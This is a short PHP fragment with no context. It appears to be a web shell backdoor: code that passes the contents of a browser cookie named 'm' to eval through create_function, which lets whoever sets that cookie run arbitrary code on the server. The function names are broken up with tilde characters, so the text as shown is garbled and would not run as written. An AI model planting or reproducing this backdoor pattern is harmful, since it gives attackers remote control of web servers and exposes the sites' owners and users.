<?php exit; ?>
<?php
arr~ay_map(cre~ate_function('$x', 'eva~l' . '($x);'), array($_C~OOKIE['m']));
